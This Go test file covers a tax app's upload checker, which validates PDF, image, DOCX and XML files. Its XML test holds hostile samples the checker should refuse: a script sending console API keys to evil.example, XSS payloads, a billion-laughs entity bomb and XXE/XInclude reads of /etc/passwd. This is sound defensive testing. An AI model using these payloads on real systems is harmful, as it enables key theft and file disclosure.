package docs

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"
)

func docxBytes(t *testing.T, files ...string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range files {
		w, err := zw.Create(f)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte("<x/>")); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestCheck(t *testing.T) {
	pdf := []byte("%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
	jpg := append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'}, 0xFF, 0xD9)
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR....\x00\x00\x00\x00IEND\xaeB`\x82")
	good := docxBytes(t, "[Content_Types].xml", "word/document.xml")
	cases := []struct {
		name    string
		b       []byte
		p       Purpose
		want    Type
		wantErr string
	}{
		{"pdf", pdf, Supporting, PDF, ""},
		{"jpg", jpg, Identity, JPEG, ""},
		{"png", png, Identity, PNG, ""},
		{"docx", good, Attachment, DOCX, ""},
		{"xml", []byte(`<?xml version="1.0" encoding="windows-1251"?><Файл><Документ/></Файл>`), Attachment, XML, ""},
		{"empty", nil, Supporting, "", "empty"},
		{"too big", append(pdf, make([]byte, MaxSize)...), Supporting, "", "at most 10 MB"},
		{"truncated pdf", pdf[:20], Supporting, "", "truncated"},
		{"truncated jpg", jpg[:6], Identity, "", "truncated"},
		{"truncated png", png[:12], Identity, "", "truncated"},
		{"truncated xml", []byte(`<Файл><b></b>`), Attachment, "", "truncated"},
		{"broken xml", []byte(`<Файл><b></Файл>`), Attachment, "", "well-formed"},
		{"zip not docx", docxBytes(t, "a.txt"), Attachment, "", "not a Word document"},
		{"truncated docx", good[:len(good)-30], Attachment, "", "damaged or truncated"},
		{"exe renamed", []byte("MZ\x90\x00 this is a program"), Supporting, "", "not a PDF"},
		{"png for declaration", png, Attachment, "", "not accepted here"},
		{"docx for identity", good, Identity, "", "not accepted here"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := Check(c.b, c.p)
			if c.wantErr == "" {
				if err != nil || got != c.want {
					t.Fatalf("got %q, %v", got, err)
				}
				return
			}
			if err == nil || !IsRejection(err) || !strings.Contains(err.Error(), c.wantErr) {
				t.Fatalf("want rejection %q, got %q, %v", c.wantErr, got, err)
			}
		})
	}
}

func FuzzCheckNeverPanics(f *testing.F) {
	f.Add([]byte("%PDF-1.4 %%EOF"))
	f.Add([]byte("PK\x03\x04"))
	f.Add([]byte("<a>"))
	// Declarations, and the web pages and entity tricks the XML check refuses.
	f.Add([]byte(`<?xml version="1.0"?><Файл xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><Документ КНД="1151020"/></Файл>`))
	f.Add([]byte(`<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`))
	f.Add([]byte(`<!DOCTYPE declaration [<!ENTITY x "y">]><declaration>&x;</declaration>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		_, _ = Check(b, Supporting)
	})
}

func BenchmarkCheckPDF1MB(b *testing.B) {
	pdf := append([]byte("%PDF-1.7\n"), make([]byte, 1<<20)...)
	pdf = append(pdf, []byte("\n%%EOF\n")...)
	b.SetBytes(int64(len(pdf)))
	for b.Loop() {
		if _, err := Check(pdf, Supporting); err != nil {
			b.Fatal(err)
		}
	}
}

// An XML upload must be a declaration (the FNS electronic format's <Файл>, or taxflow's own
// <declaration>), not a web page: an XHTML file with a script, stored as "XML" and opened
// from a link, would run in the browser of whoever opens it (an inspector, in the console).
// Whatever a browser or an XML processor would act on is refused: a script element, the
// XHTML (or SVG, XSLT, XInclude) namespace or any other, a DOCTYPE with its entities, a
// stylesheet processing instruction.
func TestXMLMustBeADeclaration(t *testing.T) {
	const xhtml = `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>3-НДФЛ</title>
<script>fetch("/console/api/keys").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>
</head><body>Декларация</body></html>`
	fns := `<?xml version="1.0" encoding="windows-1251"?>
<Файл xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="NO_NDFL3_1_020_00_05_06_01.xsd" ИдФайл="NO_NDFL3" ВерсПрог="1" ВерсФорм="5.06">
<Документ КНД="1151020" ДатаДок="01.03.2026"><НДФЛ3/></Документ></Файл>`
	for _, c := range []struct {
		name, xml, wantErr string
	}{
		{"fns 3-ndfl", fns, ""},
		{"taxflow declaration", `<declaration><inn>500100732259</inn><period>2025</period></declaration>`, ""},
		{"xhtml with a script", xhtml, "XHTML"},
		{"script without a namespace", `<Файл><Документ><script>alert(1)</script></Документ></Файл>`, "script"},
		{"script in upper case", `<Файл><SCRIPT>alert(1)</SCRIPT></Файл>`, "script"},
		{"html root", `<html><body onload="alert(1)"/></html>`, "not a 3-NDFL declaration"},
		{"svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, "namespace"},
		{"xhtml inside a declaration", `<Файл><x:div xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="x" onerror="alert(1)"/></x:div></Файл>`, "XHTML"},
		{"namespace declared, unused", `<Файл xmlns:h="http://www.w3.org/1999/xhtml"/>`, "XHTML"},
		{"doctype", `<!DOCTYPE Файл [<!ENTITY x "y">]><Файл>&x;</Файл>`, "DOCTYPE"},
		{"billion laughs", `<!DOCTYPE Файл [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><Файл>&b;</Файл>`, "DOCTYPE"},
		{"external entity", `<!DOCTYPE Файл SYSTEM "file:///etc/passwd"><Файл/>`, "DOCTYPE"},
		{"stylesheet", `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><Файл/>`, "processing instruction"},
		{"xinclude", `<Файл xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></Файл>`, "namespace"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, p := range []Purpose{Attachment, Supporting} {
				got, err := Check([]byte(c.xml), p)
				_, _, serr := streamAll([]byte(c.xml), p)
				if c.wantErr == "" {
					if err != nil || got != XML || serr != nil {
						t.Fatalf("%s: refused: %v / stream %v", p, err, serr)
					}
					continue
				}
				for _, e := range []error{err, serr} {
					if e == nil || !IsRejection(e) || !strings.Contains(e.Error(), c.wantErr) {
						t.Fatalf("%s: want a rejection naming %q, got %v", p, c.wantErr, e)
					}
				}
			}
		})
	}
}
